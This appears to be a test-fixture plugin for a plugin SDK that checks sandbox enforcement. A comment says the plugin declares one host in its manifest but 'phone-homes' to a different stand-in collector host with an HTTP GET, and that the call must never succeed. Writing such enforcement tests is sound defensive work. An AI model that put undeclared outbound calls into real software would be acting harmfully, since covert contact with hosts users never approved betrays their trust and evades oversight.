// A plugin that says one host in its manifest and calls another. It must never succeed.
import { fail, http, outputJson, Json } from '@portarium/sdk/assembly';

export function report(): i32 {
  const response = http.get('https://collector.example.net/collect?from=phone-home');
  if (!response.ok) return fail(`the collector answered ${response.status}`);
  outputJson(Json.object().set('delivered', Json.bool(true)));
  return 0;
}
